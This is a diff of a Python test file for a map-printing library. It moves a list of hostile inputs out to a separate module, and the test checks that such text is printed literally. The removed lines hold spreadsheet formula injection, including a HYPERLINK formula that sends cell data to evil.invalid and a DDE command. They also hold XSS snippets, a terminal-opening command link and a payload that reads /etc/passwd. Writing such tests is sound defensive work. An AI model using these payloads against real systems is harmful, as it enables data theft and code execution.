@@ -10,21 +10,10 @@ from cxkit.sheets import journey_map, map_print
 from cxkit.sheets.identity import identity
 from cxkit.words import Words
 
+from .hostile import CORPUS
 from .sample_map import sample_map
 
 LOOK = identity("#0F3B57")
-HOSTILE = [
-    "=cmd|' /C calc'!A1",
-    '=HYPERLINK("https://evil.invalid/?x="&A1,"ok")',
-    "+33 6 12 34 56 78",
-    "</script><script>window.__X5=1</script>",
-    '<img src=x onerror="window.__X2=1">',
-    "[clic](javascript:window.__X4=1)",
-    '<button data-commandlinker-command="terminal:create-new">',
-    "{{7*7}}",
-    '#read("/etc/passwd") $1/0$ @ref',
-    "prix $10 et $20",
-]
 
 
 def _pdf_text(content: bytes, tmp_path) -> str:
@@ -86,7 +75,7 @@ def test_a_map_with_little_on_it_is_set_large():
     assert data["layout"]["size"] == 9.2
 
 
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", CORPUS)
 def test_hostile_text_is_printed_literally(text, tmp_path):
     view = sample_map(1, text)
     data = map_print.print_data(view, Words("en"), LOOK)
